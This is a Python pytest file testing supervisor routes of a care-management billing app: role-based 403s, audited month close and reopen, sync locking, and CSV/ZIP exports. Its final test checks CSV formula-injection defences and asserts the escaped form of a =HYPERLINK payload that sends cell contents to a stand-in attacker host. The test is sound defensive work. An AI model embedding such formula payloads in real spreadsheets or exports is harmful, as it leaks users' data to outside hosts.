"""Supervisor routes over real HTTP: care managers refused, last month closed after a
review decision, locked against sync, CSV and packets, audited reopen."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
import pytest
from sqlmodel import Session, select

from ccm_pwa.auth.sessions import create_session
from ccm_pwa.domain.calendar import YearMonth
from ccm_pwa.models import (
    AuditEvent,
    EnrollmentStatus,
    MonthClose,
    Patient,
    Practice,
    TimeEntry,
    TimeSource,
    User,
)
from ccm_pwa.services.demo_practice import create_demo_practice
from ccm_pwa.services.month_packets import billing_csv
from tests.api.conftest import ApiServer
from tests.db.test_cli_exports import FORMULA_NAMES, rename_billed

CHICAGO = ZoneInfo("America/Chicago")


class Demo:
    def __init__(self, session: Session) -> None:
        self.session = session
        self.today = datetime.now(UTC).astimezone(CHICAGO).date()
        self.last_month = YearMonth.of(self.today).preceding()
        result = create_demo_practice(session=session, patients=40, care_managers=2, seed=11,
                                      today=self.today)
        session.commit()
        self.practice = session.get(Practice, result.practice_id)
        users = {u.name: u for u in session.exec(select(User))}
        self.kim, self.supervisor = users["Kim Alvarez"], users["Renee Walsh"]
        self.kim_cookies = self._cookies(self.kim)
        self.cookies = self._cookies(self.supervisor)

    def _cookies(self, user: User) -> dict[str, str]:
        token = create_session(session=self.session, user=user, now=datetime.now(UTC))
        self.session.commit()
        return {"ccm_session": token}


@pytest.fixture
def demo(session: Session) -> Demo:
    return Demo(session)


def call(server: ApiServer, method: str, path: str, cookies: dict[str, str],
         **kwargs: object) -> httpx.Response:
    return httpx.request(method, f"{server.url}/api/v1{path}", cookies=cookies, timeout=120,
                         **kwargs)


def test_care_managers_get_403_on_every_supervisor_route(api_server: ApiServer,
                                                         demo: Demo) -> None:
    month = str(demo.last_month)
    patient = demo.session.exec(select(Patient).where(
        Patient.care_manager_id == demo.kim.id)).first()
    entry = demo.session.exec(select(TimeEntry).where(
        TimeEntry.performer_id == demo.kim.id)).first()
    routes = [("GET", f"/team/progress?month={month}", None),
              ("GET", "/team/program", None),
              ("GET", f"/team/{demo.kim.id}/worklist", None),
              ("GET", "/review/queue", None),
              ("POST", f"/review/{entry.id}", {"decision": "accept", "reason": ""}),
              ("GET", f"/months/{month}/checks", None),
              ("POST", f"/months/{month}/close", None),
              ("POST", f"/months/{month}/reopen", {"reason": "x"}),
              ("GET", f"/months/{month}/billing.csv", None),
              ("GET", f"/months/{month}/packets.zip", None),
              ("GET", f"/months/{month}/packets/{patient.id}.html", None)]
    for method, path, body in routes:
        response = call(api_server, method, path, demo.kim_cookies, json=body)
        assert response.status_code == 403, (path, response.text)
        assert response.json()["error"] == "forbidden"
        assert response.headers["cache-control"] == "no-store"
    denied = demo.session.exec(select(AuditEvent).where(
        AuditEvent.action == "access.denied", AuditEvent.user_id == demo.kim.id)).all()
    assert len(denied) == len(routes)
    assert demo.session.exec(select(MonthClose)).first() is None


def test_supervisor_reviews_and_closes_last_month(api_server: ApiServer, demo: Demo) -> None:
    month = str(demo.last_month)
    team = call(api_server, "GET", "/team/progress", demo.cookies)
    assert team.status_code == 200 and team.headers["cache-control"] == "no-store"
    rows = team.json()["rows"]
    assert {r["name"] for r in rows} == {"Kim Alvarez", "Dana Brooks"}
    program = call(api_server, "GET", f"/team/program?care_manager={demo.kim.id}",
                   demo.cookies).json()
    assert program["scope"] == "Kim Alvarez" and len(program["history"]) == 6
    assert call(api_server, "GET", "/team/program?care_manager=nobody",
                demo.cookies).status_code == 403
    worklist = call(api_server, "GET", f"/team/{demo.kim.id}/worklist", demo.cookies)
    assert worklist.status_code == 200 and worklist.json()["patients"]
    assert call(api_server, "GET", "/months/2026-13/checks", demo.cookies).status_code == 422

    checks = call(api_server, "GET", f"/months/{month}/checks", demo.cookies).json()
    assert checks["state"]["status"] == "open" and checks["state"]["ended"]
    failing = {c["name"] for c in checks["checks"] if c["blocks_close"]}
    refused = call(api_server, "POST", f"/months/{month}/close", demo.cookies)
    if failing:
        assert refused.status_code == 409 and refused.json()["error"] == "refused"
        blocking = [f for c in refused.json()["checks"] for f in c["findings"] if f["blocking"]]
        queue = {i["id"]: i for i in call(api_server, "GET", f"/review/queue?month={month}",
                                          demo.cookies).json()["items"]}
        # void the late manual copy of each double-logged call
        for entry_id in {e for f in blocking for e in f["entry_ids"]}:
            item = queue.get(entry_id)
            if item and "backdated_manual" in item["reasons"]:
                decided = call(api_server, "POST", f"/review/{entry_id}", demo.cookies,
                               json={"decision": "void", "reason": "logged on both patients"})
                assert decided.status_code == 200, decided.text
                assert decided.json()["decision"] == "voided"
        assert call(api_server, "POST", f"/review/{uuid.uuid4()}", demo.cookies,
                    json={"decision": "void", "reason": ""}).status_code == 422
        closed = call(api_server, "POST", f"/months/{month}/close", demo.cookies)
    else:
        closed = refused
    assert closed.status_code == 200, closed.text
    assert closed.json()["state"]["status"] == "closed"
    assert closed.json()["state"]["closed_by"] == "Renee Walsh"

    # locked against sync: Kim's phone pushes a call for last month
    patient = demo.session.exec(select(Patient).where(
        Patient.care_manager_id == demo.kim.id,
        Patient.enrollment_status == EnrollmentStatus.ENROLLED)).first()
    started = datetime.combine(demo.last_month.first_day + timedelta(days=9),
                               datetime.min.time(), CHICAGO) + timedelta(hours=7, minutes=3)
    push = httpx.post(f"{api_server.url}/api/v1/sync/push", cookies=demo.kim_cookies,
                      timeout=60, json={
                          "client_id": str(uuid.uuid4()), "schema_version": 1,
                          "mutations": [{"id": 1, "name": "time_entry.record",
                                         "occurred_at": datetime.now(UTC).isoformat(),
                                         "args": {"entry_id": str(uuid.uuid4()),
                                                  "patient_id": str(patient.id),
                                                  "started_at": started.isoformat(),
                                                  "duration_seconds": 600,
                                                  "activity": "phone_call_patient",
                                                  "note": "late", "source": "timer"}}]})
    assert push.status_code == 200, push.text
    [result] = push.json()["results"]
    assert result["status"] == "rejected" and "closed" in result["reason"]

    csv_response = call(api_server, "GET", f"/months/{month}/billing.csv", demo.cookies)
    assert csv_response.status_code == 200
    assert csv_response.headers["content-type"].startswith("text/csv")
    demo.session.expire_all()
    assert csv_response.text == billing_csv(session=demo.session, practice=demo.practice,
                                            month=demo.last_month)
    mrns = {r["mrn"] for r in csv.DictReader(io.StringIO(csv_response.text))}
    archive = call(api_server, "GET", f"/months/{month}/packets.zip", demo.cookies)
    assert archive.status_code == 200 and archive.headers["content-type"] == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(archive.content)).namelist()
    assert len([n for n in names if "/packets/" in n]) == len(mrns)
    billed = demo.session.exec(select(Patient).where(Patient.mrn == sorted(mrns)[0])).one()
    page = call(api_server, "GET", f"/months/{month}/packets/{billed.id}.html", demo.cookies)
    assert page.status_code == 200 and billed.mrn in page.text
    assert call(api_server, "GET", f"/months/{month}/packets/{uuid.uuid4()}.html",
                demo.cookies).status_code == 403

    assert call(api_server, "POST", f"/months/{month}/reopen", demo.cookies,
                json={"reason": " "}).status_code == 422
    reopened = call(api_server, "POST", f"/months/{month}/reopen", demo.cookies,
                    json={"reason": "Consent found on paper"})
    assert reopened.status_code == 200 and reopened.json()["state"]["status"] == "open"
    assert call(api_server, "POST", f"/months/{month}/reopen", demo.cookies,
                json={"reason": "again"}).status_code == 409
    actions = {a.action for a in demo.session.exec(select(AuditEvent).where(
        AuditEvent.user_id == demo.supervisor.id))}
    assert {"team.progress.read", "team.program.read", "month.checks.read", "month.close",
            "month.reopen", "billing_report.export", "audit_packet.export"} <= actions
    if failing:
        assert "review.void" in actions
    manual = demo.session.exec(select(TimeEntry).where(
        TimeEntry.source == TimeSource.MANUAL)).first()
    assert manual is not None


def test_billing_csv_and_claims_csv_in_the_zip_run_no_formula(api_server: ApiServer,
                                                              demo: Demo) -> None:
    """The supervisor opens billing.csv (or the zip's claims.csv) in Excel: a patient name
    beginning with a formula character arrives as text; every other column is unchanged."""
    month = str(demo.last_month)
    before = list(csv.DictReader(io.StringIO(
        call(api_server, "GET", f"/months/{month}/billing.csv", demo.cookies).text,
        newline="")))
    names = rename_billed(demo.session, sorted({r["mrn"] for r in before}), FORMULA_NAMES)

    text = call(api_server, "GET", f"/months/{month}/billing.csv", demo.cookies).text
    archive = zipfile.ZipFile(io.BytesIO(call(api_server, "GET", f"/months/{month}/packets.zip",
                                              demo.cookies).content))
    claims = archive.read(f"ccm-{month}/claims.csv").decode()
    assert claims == text
    after = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(after) == len(before)
    for old, new in zip(before, after, strict=True):
        assert new["patient_name"] == "'" + names[new["mrn"]]
        assert {k: v for k, v in new.items() if k != "patient_name"} == \
            {k: v for k, v in old.items() if k != "patient_name"}
        assert not new["date_of_service"].startswith("'") and not new["units"].startswith("'")
    # the HTML index is not a spreadsheet: the name is shown as typed, escaped
    index = archive.read(f"ccm-{month}/index.html").decode()
    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;B2" in index
